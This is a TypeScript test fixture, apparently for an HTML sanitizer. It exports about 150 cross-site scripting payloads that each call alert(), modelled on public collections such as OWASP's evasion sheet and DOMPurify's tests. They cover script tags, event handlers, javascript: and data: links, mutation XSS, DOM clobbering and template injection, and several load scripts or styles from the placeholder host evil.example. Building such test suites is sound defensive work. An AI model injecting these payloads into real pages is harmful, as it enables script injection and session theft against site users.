/**
 * One of every kind that the public collections list (OWASP's filter evasion sheet, html5sec, the mutations that
 * DOMPurify's tests know), in our own writing. Each would call alert().
 */
export const vectors: string[] = [
  // plain, and in disguise
  '<script>alert(1)</script>', '<ScRiPt>alert(1)</sCrIpT>', '<script >alert(1)</script >', '<script/x>alert(1)</script>', '<script\t>alert(1)</script>', '<script src=data:,alert(1)></script>',
  '<script src=//evil.example/x.js></script>', '<<script>alert(1)//<</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script>alert(1)', '<script x=">" src=data:,alert(1)></script>', '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '%3Cscript%3Ealert(1)%3C/script%3E', '<script type=module>alert(1)</script>', '<script nomodule>alert(1)</script>', '<script>/*<!--*/alert(1)</script>',
  // out of an attribute, a text, a script, a title
  '"><script>alert(1)</script>', "'><script>alert(1)</script>", '"><img src=x onerror=alert(1)>', '" autofocus onfocus=alert(1) x="', "' onmouseover='alert(1)", '</title><script>alert(1)</script>', '</textarea><script>alert(1)</script>',
  '</script><script>alert(1)</script>', '--><script>alert(1)</script>', ']]><script>alert(1)</script>', '</style><script>alert(1)</script>', '</noscript><img src=x onerror=alert(1)>', '\u2028</script><script>alert(1)</script>', '{"x":"</script><svg onload=alert(1)>"}', '<!--<script>',
  // handlers
  '<img src=x onerror=alert(1)>', '<img src=x onerror="alert(1)"//', '<img/src=x/onerror=alert(1)>', '<img src=x\nonerror\n=\nalert(1)>', '<img src=x oNeRrOr=alert(1)>', '<img src="x" `onerror=alert(1)`>', '<img """><script>alert(1)</script>">', '<img src=x:x onerror=alert(1)>',
  '<body onload=alert(1)>', '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>', '<textarea autofocus onfocus=alert(1)>', '<video><source onerror=alert(1)>', '<video src=x onerror=alert(1)>', '<audio src=x onerror=alert(1)>', '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>', '<p style="animation:x" onanimationstart=alert(1)>x</p>', '<a onclick=alert(1)>x</a>', '<div onpointerover=alert(1) style="position:fixed;inset:0">x</div>', '<p onbeforematch=alert(1) hidden=until-found id=a>x</p>', '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>x</div>',
  // links
  '<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href="java&#9;script:alert(1)">x</a>', '<a href="java&#x0A;script:alert(1)">x</a>', '<a href="&#x6A;avascript:alert(1)">x</a>', '<a href=" &#14; javascript:alert(1)">x</a>', '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>', '<a href="vbscript:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', '<a href="blob:https://x/1">x</a>', '<a href="//evil.example">x</a>', '<a href="/\\evil.example">x</a>',
  '<a href=javascript:alert(1)>x', '<area href=javascript:alert(1)>', '<base href="javascript:alert(1)//">', '<form action=javascript:alert(1)><button>x</button></form>', '<button formaction=javascript:alert(1)>x</button>', '<isindex action=javascript:alert(1) type=submit>',
  // frames and plug-ins
  '<iframe src=javascript:alert(1)></iframe>', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>', '<iframe onload=alert(1)></iframe>', '<object data="javascript:alert(1)"></object>', '<object data="data:text/html,<script>alert(1)</script>"></object>', '<embed src="javascript:alert(1)">', '<frameset onload=alert(1)>', '<portal src=javascript:alert(1)>',
  // styles, meta, links
  '<style>@import "//evil.example/x.css";</style>', '<style><img src=x onerror=alert(1)></style>', '<p style="background:url(javascript:alert(1))">x</p>', '<p style="width:expression(alert(1))">x</p>', '<link rel=stylesheet href=//evil.example/x.css>', '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  // svg and math
  '<svg onload=alert(1)>', '<svg/onload=alert(1)//', '<svg><script>alert(1)</script></svg>', '<svg><script xlink:href=data:,alert(1) /></svg>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><set attributeName=href to=javascript:alert(1)>',
  '<svg><foreignObject><script>alert(1)</script></foreignObject></svg>', '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"></svg>', '<math href="javascript:alert(1)">x</math>', '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
  // mutations: harmless until they are parsed again
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<table><td><svg><desc><td><template><style><img src=x onerror=alert(1)>', '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>', '<xmp><img src=x onerror=alert(1)></xmp>', '<plaintext><img src=x onerror=alert(1)>', '<textarea><img title="</textarea><img src=x onerror=alert(1)>">', '<template><script>alert(1)</script></template>',
  '<select><template><style><!--</style><img src=x onerror=alert(1)>-->', '<p><![CDATA[<img src=x onerror=alert(1)>]]></p>', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', '<?xml version="1.0"?><script>alert(1)</script>', '<a title="<style><img src=x onerror=alert(1)>">x</a>', '<img alt="<x" title="/><img src=x onerror=alert(1)>">',
  // names that stand in for the page’s own
  '<img name=getElementById src=/media/a.png>', '<a id=state href="/">x</a>', '<form id=root><input name=innerHTML></form>', '<p id=state data-json=\'{"status":500}\'>x</p>', '<template id=late-comments value=\'[{"id":"1"}]\'></template>',
  // templates and other languages
  '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '#{alert(1)}', '<%= alert(1) %>', '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e', '\u0000<script>alert(1)</script>', '<scr\u0000ipt>alert(1)</scr\u0000ipt>', '\u202e<script>alert(1)</script>', 'javascript:alert(1)', 'x" onload="alert(1)', '<p>'.repeat(2000),
];
